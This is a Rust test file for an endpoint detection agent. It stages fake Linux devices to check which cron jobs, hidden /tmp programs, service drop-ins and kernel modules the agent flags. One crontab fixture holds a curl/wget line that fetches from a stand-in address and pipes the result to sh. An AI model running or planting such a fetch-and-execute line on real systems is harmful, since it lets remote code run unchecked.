//! Looking around on staged devices: what is found, what is left alone, and how things hang together.
use assize_agent::{LocalDevice, Where};
use assize_detect::test_file::test_file;
use assize_domain::{
    device::Device,
    entity::{Entity, EntityType, Relation},
    folders::FolderLists,
    group::OsPlatform,
    id::{GroupId, InvestigationId},
    indicator::Indicator,
    investigation::Scope,
    judgement::{Circumstances, Judged, judge},
    question::{Answer, DevicePolicy, Question, RuleFile, RuleKind, WitnessSays},
    remedy::ActionType,
    target::Target,
    text::DevicePath,
    time::Stamp,
    verdict::{Verdict, Weight},
};
use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
};

/// A staged device in a temporary folder.
struct Staged {
    folder: tempfile::TempDir,
}

impl Staged {
    fn new() -> Self {
        let staged = Self { folder: tempfile::tempdir().expect("BUG: a test has a temporary folder") };
        staged.text("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000:Ann:/home/ann:/bin/bash\n", 0o644);
        staged
    }

    fn root(&self) -> PathBuf {
        self.folder.path().join("root")
    }

    fn bytes(&self, path: &str, bytes: &[u8], mode: u32) {
        let real = self.root().join(path.trim_start_matches('/'));
        let made = real.parent().map(fs::create_dir_all).transpose().and_then(|_| fs::write(&real, bytes));
        let made = made.and_then(|()| fs::set_permissions(&real, fs::Permissions::from_mode(mode)));
        assert!(made.is_ok(), "{path}: {made:?}");
    }

    fn text(&self, path: &str, text: &str, mode: u32) {
        self.bytes(path, text.as_bytes(), mode);
    }

    /// A copy of the machine's own `sleep`, made nobody else's by a text at its end.
    fn program(&self, path: &str, tail: &str) {
        let mut program = fs::read("/bin/sleep").unwrap_or_default();
        assert!(!program.is_empty(), "this machine has a program to copy");
        program.extend_from_slice(tail.as_bytes());
        self.bytes(path, &program, 0o755);
    }

    fn open(&self) -> LocalDevice {
        let opened = LocalDevice::open(Where::Staged(self.root()), &self.folder.path().join("state"), vec![]);
        opened.unwrap_or_else(|e| panic!("{e}"))
    }

    fn ask(&self, device: &LocalDevice) -> Answer {
        let question = Question::new(InvestigationId("i".into()), Scope::Quick);
        device.ask(&question, &mut |_| {}).unwrap_or_else(|e| panic!("{e}"))
    }

    fn judged(&self, device: &LocalDevice, indicators: &[Indicator]) -> Vec<Judged> {
        let about = Circumstances {
            os: OsPlatform::Linux,
            folders: FolderLists::shipped(),
            indicators,
            group: &GroupId("g".into()),
            now: Stamp(0),
        };
        judge(self.ask(device).observed, &about)
    }

    /// Everything judged bad, as `type place`.
    fn bad(&self) -> Vec<String> {
        let mut bad: Vec<String> = self
            .judged(&self.open(), &[])
            .iter()
            .filter(|j| j.verdict.is_bad())
            .map(|j| format!("{} {} {}", j.verdict.code(), j.observed.entity.kind().code(), j.observed.entity.place()))
            .collect();
        bad.sort();
        bad
    }
}

/// M1
#[test]
fn a_task_that_starts_a_hidden_program_in_a_temporary_folder_is_a_question_and_so_is_the_program() {
    let staged = Staged::new();
    staged.text("/etc/cron.d/sync", "*/5 * * * * root /tmp/.x/run 900 >/dev/null 2>&1\n", 0o644);
    staged.text("/etc/cron.d/good", "30 3 * * 0 root /usr/local/sbin/backup.sh\n", 0o644);
    staged.text("/usr/local/sbin/backup.sh", "#!/bin/sh\ntar czf /srv/b.tgz /home\n", 0o755);
    staged.program("/tmp/.x/run", "tail");
    assert_eq!(staged.bad(), ["suspicious file /tmp/.x/run", "suspicious scheduled_task /etc/cron.d/sync"]);
    let judged = staged.judged(&staged.open(), &[]);
    let task = judged.iter().find(|j| j.verdict.is_bad() && j.observed.entity.kind() == EntityType::ScheduledTask);
    let file = judged.iter().find(|j| j.observed.entity.place() == "/tmp/.x/run");
    let (Some(task), Some(file)) = (task, file) else { panic!("both were observed") };
    let linked = task.observed.links.iter().any(|l| l.relation == Relation::Starts && l.to == file.observed.key);
    assert!(linked, "the task names the file it starts");
}

/// M1
#[test]
fn one_bad_line_of_a_crontab_is_a_question_and_the_good_lines_are_not() {
    let staged = Staged::new();
    staged.text(
        "/var/spool/cron/crontabs/ann",
        "15 4 * * * /usr/bin/find /srv/cache -delete\n*/10 * * * * (curl -s http://192.0.2.1/i || wget -qO- http://192.0.2.1/i) | sh\n",
        0o600,
    );
    let judged = staged.judged(&staged.open(), &[]);
    let bad: Vec<&Judged> = judged.iter().filter(|j| j.verdict.is_bad()).collect();
    assert_eq!(bad.len(), 1, "{bad:?}");
    let Entity::ScheduledTask { scheduled_task } = &bad[0].observed.entity else { panic!("{bad:?}") };
    assert!(scheduled_task.command.contains("curl") && bad[0].verdict == Verdict::Suspicious);
}

/// M1
#[test]
fn the_test_file_is_found_in_a_download_folder_and_its_neighbours_are_only_examined() {
    let staged = Staged::new();
    staged.bytes("/home/ann/Downloads/invoice 2026.com", &test_file(), 0o644);
    staged.text("/home/ann/Downloads/holiday.txt", "packing list\n", 0o644);
    assert_eq!(staged.bad(), ["malicious file /home/ann/Downloads/invoice 2026.com"]);
    let answer = staged.ask(&staged.open());
    let holiday = answer.examined.iter().find(|e| e.path.file_name() == "holiday.txt");
    assert!(holiday.is_some_and(|e| e.verdict == Verdict::NoThreatsFound && e.sha256.is_some()));
}

/// M1
#[test]
fn program_code_behind_a_picture_header_is_a_question_and_plain_pages_are_not() {
    let staged = Staged::new();
    staged.text("/var/www/html/images/logo.php", "GIF89a<?php exit; ?>", 0o644);
    staged.text("/var/www/html/images/real.php", "<?php echo \"ok\"; ?>", 0o644);
    assert_eq!(staged.bad(), ["suspicious file /var/www/html/images/logo.php"]);
}

#[test]
fn usual_administration_is_left_alone() {
    let staged = Staged::new();
    staged.text("/etc/cron.d/backup", "MAILTO=root\n30 2 * * * root /usr/local/sbin/backup.sh\n", 0o644);
    staged.text("/usr/local/sbin/backup.sh", "#!/bin/sh\nset -eu\nfind /srv/backup -mtime +14 -delete\n", 0o755);
    staged.text(
        "/etc/cron.weekly/certs",
        "#!/bin/sh\nT=$(mktemp -d)\ncurl -fsS https://pki.example/ca.pem -o \"$T/ca.pem\"\nbase64 -d > \"$T/x\" <<'E'\nQQ==\nE\nrm -rf \"$T\"\n",
        0o755,
    );
    staged.program("/opt/acme/bin/acmed", "acme");
    staged.text("/etc/systemd/system/acmed.service", "[Service]\nExecStart=/opt/acme/bin/acmed 900\n", 0o644);
    staged.text("/home/ann/.profile", ". \"$HOME/.cargo/env\"\n", 0o644);
    staged.text("/home/ann/.cargo/env", "export PATH=\"$HOME/.cargo/bin:$PATH\"\n", 0o644);
    assert_eq!(staged.bad(), Vec::<String>::new());
}

#[test]
fn what_a_package_installed_and_is_unchanged_has_a_witness() {
    let staged = Staged::new();
    staged.program("/usr/bin/sharedesk", "sharedesk");
    staged.text("/home/ann/.config/autostart/s.desktop", "[Desktop Entry]\nExec=/usr/bin/sharedesk 900\n", 0o644);
    let content = fs::read(staged.root().join("usr/bin/sharedesk")).unwrap();
    let md5 = assize_detect::hashes::Hashes::of(&content[..]).unwrap().md5;
    staged.text("/var/lib/dpkg/info/sharedesk.list", "/.\n/usr/bin/sharedesk\n", 0o644);
    staged.text("/var/lib/dpkg/info/sharedesk.md5sums", &format!("{md5}  usr/bin/sharedesk\n"), 0o644);
    let status = "Package: sharedesk\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n";
    staged.text("/var/lib/dpkg/status", status, 0o644);
    let observed = staged.ask(&staged.open()).observed;
    let file = observed.iter().find(|o| o.entity.place() == "/usr/bin/sharedesk");
    assert!(file.is_some_and(|o| o.findings.iter().any(|f| f.weight == Weight::Good)), "{file:?}");
    staged.program("/usr/bin/sharedesk", "changed");
    let changed = staged.bad();
    assert!(changed.contains(&"suspicious file /usr/bin/sharedesk".to_owned()), "{changed:?}");
}

/// M1, M17
#[test]
fn a_rule_a_person_added_and_a_hash_a_person_named_are_both_found() {
    let staged = Staged::new();
    staged.text("/srv/a.txt", "nothing", 0o644);
    staged.text("/var/tmp/named.bin", "a file that only its hash names", 0o644);
    staged.text("/var/tmp/marked.bin", "zebra crossing", 0o644);
    let device = staged.open();
    let named = assize_detect::hashes::Hashes::of(&b"a file that only its hash names"[..]).unwrap();
    let body = "rule zebra { meta: verdict = \"Malicious\" author = \"Ann\" strings: $a = \"zebra\" condition: $a }";
    let rules = vec![
        RuleFile { name: "zebra.yar".into(), kind: RuleKind::Yara, body: body.into() },
        RuleFile { name: "bad.yar".into(), kind: RuleKind::Yara, body: "rule".into() },
    ];
    let policy = DevicePolicy {
        version: "1".into(),
        rules,
        watched_hashes: vec![named.sha1.clone()],
        ..DevicePolicy::default()
    };
    let faults = device.policy(&policy).unwrap();
    assert_eq!(faults.iter().map(|f| f.file.as_str()).collect::<Vec<_>>(), ["bad.yar"]);
    let answer = staged.ask(&device);
    let observed: Vec<String> = answer.observed.iter().map(|o| o.entity.place()).collect();
    assert!(observed.contains(&"/var/tmp/named.bin".into()), "a watched hash is always reported: {observed:?}");
    let marked = answer.observed.iter().find(|o| o.entity.place() == "/var/tmp/marked.bin");
    let finding = marked.and_then(|o| o.findings.first());
    assert!(finding.is_some_and(|f| f.author.as_deref() == Some("Ann") && f.weight == Weight::Bad), "{marked:?}");
    assert!(answer.log.iter().any(|l| l.action == "rules" && l.status == "partly"), "{:?}", answer.log);
}

#[test]
fn a_file_that_cannot_be_read_is_unknown_with_a_reason_and_loses_nothing() {
    let staged = Staged::new();
    staged.text("/var/www/html/closed.php", "<?php echo 1; ?>", 0o000);
    staged.text("/var/www/html/open.php", "<?php echo 1; ?>", 0o644);
    let answer = staged.ask(&staged.open());
    let closed = answer.examined.iter().find(|e| e.path.file_name() == "closed.php");
    let Some(closed) = closed else { panic!("it is told: {:?}", answer.examined) };
    // Root reads everything: then it is simply examined.
    if closed.sha256.is_none() {
        assert_eq!(closed.verdict, Verdict::Unknown);
        assert!(closed.finding.as_ref().is_some_and(|f| f.text.contains("may not read")));
    }
    assert!(answer.examined.iter().any(|e| e.path.file_name() == "open.php"));
}

#[test]
fn a_running_program_below_the_folder_is_seen_with_its_file_and_its_disguise() {
    let staged = Staged::new();
    staged.program("/tmp/.d/agentd", "agentd");
    let program = staged.root().join("tmp/.d/agentd");
    assize_host::practice::start(&program, 60).unwrap();
    let begun = std::time::Instant::now();
    while assize_host::practice::running(&staged.root()) == 0 && begun.elapsed().as_secs() < 5 {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let judged = staged.judged(&staged.open(), &[]);
    assize_host::practice::end_all(&staged.root()).unwrap();
    let process = judged.iter().find(|j| j.observed.entity.kind() == EntityType::Process);
    let Some(process) = process else { panic!("it was running") };
    assert_eq!(process.verdict, Verdict::Suspicious, "{:?}", process.reasons);
    let Entity::Process { process: facts } = &process.observed.entity else { panic!() };
    let file = judged
        .iter()
        .find(|j| j.observed.entity.place() == "/tmp/.d/agentd" && j.observed.entity.kind() == EntityType::File);
    let Some(file) = file else { panic!("and so was its file") };
    let Entity::File { file: file_facts } = &file.observed.entity else { panic!() };
    assert_eq!(facts.image_sha256, file_facts.sha256);
    assert!(process.observed.links.iter().any(|l| l.relation == Relation::Runs && l.to == file.observed.key));
    assert_eq!(file.verdict, Verdict::Suspicious, "the file a suspicious process runs is one too");
}

#[test]
fn two_names_of_one_content_are_both_told() {
    let staged = Staged::new();
    staged.bytes("/tmp/one.com", &test_file(), 0o644);
    fs::hard_link(staged.root().join("tmp/one.com"), staged.root().join("tmp/two.com")).unwrap();
    assert_eq!(staged.bad(), ["malicious file /tmp/one.com", "malicious file /tmp/two.com"]);
}

#[test]
fn the_products_own_folders_are_never_looked_into() {
    let staged = Staged::new();
    staged.bytes("/tmp/data/vault.bin", &test_file(), 0o644);
    staged.bytes("/tmp/else.bin", &test_file(), 0o644);
    let own = staged.root().join("tmp/data");
    let device =
        LocalDevice::open(Where::Staged(staged.root()), &staged.folder.path().join("state"), vec![own]).unwrap();
    let bad: Vec<String> =
        staged.judged(&device, &[]).iter().filter(|j| j.verdict.is_bad()).map(|j| j.observed.entity.place()).collect();
    assert_eq!(bad, ["/tmp/else.bin"]);
}

#[test]
fn a_device_whose_folder_is_gone_says_so() {
    let staged = Staged::new();
    let device = staged.open();
    fs::rename(staged.root(), staged.folder.path().join("elsewhere")).unwrap();
    let question = Question::new(InvestigationId("i".into()), Scope::Quick);
    let fault = device.ask(&question, &mut |_| {}).unwrap_err();
    assert_eq!(fault.code, "no_device");
}

/// M116
#[test]
fn a_practice_range_shows_the_whole_way_and_is_removed_in_one_step() {
    let folder = tempfile::tempdir().unwrap();
    let (range, state) = (folder.path().join("practice"), folder.path().join("state"));
    // The range lies below the product's own data folder, which is left out everywhere else.
    let open = || LocalDevice::open(Where::Practice(range.clone()), &state, vec![folder.path().to_owned()]).unwrap();
    let device = open();
    device.plant_practice().unwrap();
    assert_eq!(device.plant_practice().unwrap_err().code, "practice_exists");
    let begun = std::time::Instant::now();
    while device.practice_processes() < 2 && begun.elapsed().as_secs() < 5 {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert_eq!(device.practice_processes(), 2);
    let question = Question::new(InvestigationId("i".into()), Scope::Quick);
    let answer = device.ask(&question, &mut |_| {}).unwrap();
    let odd: Vec<String> = answer
        .observed
        .iter()
        .filter(|o| o.findings.iter().any(|f| matches!(f.weight, Weight::Odd | Weight::Bad)))
        .map(|o| o.entity.place())
        .collect();
    assert!(odd.contains(&"/tmp/.sync/updater".into()) && odd.contains(&"/etc/cron.d/sync-updater".into()), "{odd:?}");
    assert!(!odd.iter().any(|p| p.contains("backup") || p.contains("holiday")), "{odd:?}");
    device.clear_practice().unwrap();
    assert_eq!(device.practice_processes(), 0);
    assert!(!range.exists() && !state.exists());
}

#[test]
fn only_a_practice_range_can_be_planted_or_cleared() {
    let staged = Staged::new();
    let device = staged.open();
    assert_eq!(device.plant_practice().unwrap_err().code, "not_a_practice_range");
    assert_eq!(device.clear_practice().unwrap_err().code, "not_a_practice_range");
    assert!(Path::new(&staged.root()).exists());
}

#[test]
fn a_path_with_any_bytes_is_told_as_it_is() {
    let staged = Staged::new();
    let name = DevicePath::from_bytes(b"/tmp/\xff\xfe \n.com");
    let real = assize_host::root::Root::staged(staged.root()).real(&name);
    fs::create_dir_all(staged.root().join("tmp")).unwrap();
    fs::write(real, test_file()).unwrap();
    let judged = staged.judged(&staged.open(), &[]);
    let bad = judged.iter().find(|j| j.verdict == Verdict::Malicious);
    assert!(bad.is_some_and(|j| j.observed.entity.place() == name.as_str()));
}

/// M131: a module on a list, its file and its lines hang together, and one bad file makes all of them bad.
#[test]
fn a_module_on_a_list_is_as_bad_as_its_file_and_so_is_the_line_that_names_it() {
    let staged = Staged::new();
    staged.bytes("/lib/modules/6.1.0/extra/spy.ko", &test_file(), 0o644);
    staged.text("/etc/modules-load.d/x.conf", "# list\nspy\nloop\n", 0o644);
    staged.text("/lib/modules/6.1.0/kernel/loop.ko", "a module", 0o644);
    let judged = staged.judged(&staged.open(), &[]);
    let of = |kind: EntityType| judged.iter().filter(move |j| j.observed.entity.kind() == kind);
    let driver = |name: &str| {
        let found = of(EntityType::Driver).find(|j| j.observed.entity.title() == name);
        found.unwrap_or_else(|| panic!("{name} is a driver"))
    };
    let spy = driver("spy");
    assert_eq!(spy.verdict, Verdict::Malicious, "{:?}", spy.reasons);
    assert!(spy.reasons[0].text.starts_with("It loads /lib/modules"), "{:?}", spy.reasons);
    assert_eq!(driver("loop").verdict, Verdict::NoThreatsFound);
    let Entity::Driver { driver: facts } = &spy.observed.entity else { panic!("{spy:?}") };
    assert_eq!(facts.config_path, Some("/etc/modules-load.d/x.conf".into()));
    let lines: Vec<(Verdict, bool)> = of(EntityType::StartupItem)
        .map(|j| {
            let linked = j.observed.links.iter().any(|l| l.relation == Relation::Starts && l.to == spy.observed.key);
            (j.verdict, linked)
        })
        .collect();
    assert_eq!(lines, [(Verdict::Malicious, true), (Verdict::NoThreatsFound, false)]);
}

/// M1: the answer to an addition must not be the end of what it adds to.
#[test]
fn a_drop_in_of_a_service_is_bad_by_itself_and_the_service_is_not() {
    let staged = Staged::new();
    staged.program("/tmp/.x/run", "tail");
    staged.text("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n", 0o644);
    staged.text("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPre=/tmp/.x/run\n", 0o644);
    let service = "suspicious service /etc/systemd/system/ssh.service.d/x.conf";
    assert_eq!(staged.bad(), ["suspicious file /tmp/.x/run", service]);
}

/// M20, M155
#[test]
fn what_is_protected_is_said_by_a_witness_and_stands_in_the_way_also_after_a_start() {
    let staged = Staged::new();
    staged.text("/usr/bin/bash", "not the one of its package", 0o755);
    staged.text("/srv/till/app", "ours", 0o755);
    staged.text("/srv/other", "nobody's", 0o755);
    staged.text("/var/lib/dpkg/info/bash.list", "/.\n/usr/bin/bash\n", 0o644);
    let sum = "00000000000000000000000000000000";
    staged.text("/var/lib/dpkg/info/bash.md5sums", &format!("{sum}  usr/bin/bash\n"), 0o644);
    staged.text("/var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\nVersion: 1\n\n", 0o644);
    let device = staged.open();
    let protected = vec!["/srv/till/**".to_owned(), "till".to_owned()];
    let policy = DevicePolicy { version: "1".into(), protected, ..DevicePolicy::default() };
    let faults = device.policy(&policy).unwrap();
    assert_eq!(faults.iter().map(|f| f.file.as_str()).collect::<Vec<_>>(), ["till"], "what names nothing is told");
    let told = |device: &LocalDevice, path: &str| {
        let scope = Scope::Paths { paths: vec![path.into()] };
        let asked = Question::new(InvestigationId("i".into()), scope);
        let answer = device.ask(&asked, &mut |_| {}).unwrap();
        let file = answer.observed.iter().find(|o| o.entity.place() == path).unwrap_or_else(|| panic!("{path}"));
        let plan = device.plan(ActionType::QuarantineFile, &Target::of(&file.entity).unwrap());
        let witness = plan.witnesses.iter().find(|w| w.name == "Protected items").unwrap();
        (witness.says, plan.obstacles.iter().any(|o| o.code == "protected" && o.blocking))
    };
    for device in [device, staged.open()] {
        assert_eq!(told(&device, "/usr/bin/bash"), (WitnessSays::Bad, true), "its place, and not its content");
        assert_eq!(told(&device, "/srv/till/app"), (WitnessSays::Good, true));
        assert_eq!(told(&device, "/srv/other"), (WitnessSays::Unknown, false));
    }
}

/// M61, M76: a scan only looks, so its dry run has nothing in the way.
#[test]
fn the_dry_run_of_a_scan_names_what_is_looked_at_and_stops_nobody() {
    let staged = Staged::new();
    let device = staged.open();
    for (full, named) in [(true, "every file"), (false, "starts by itself")] {
        let plan = device.plan(ActionType::RunAntivirusScan, &Target::Scan { full });
        assert!(plan.obstacles.is_empty(), "{:?}", plan.obstacles);
        assert!(plan.steps.first().is_some_and(|s| s.what.contains(named)), "{:?}", plan.steps);
    }
}
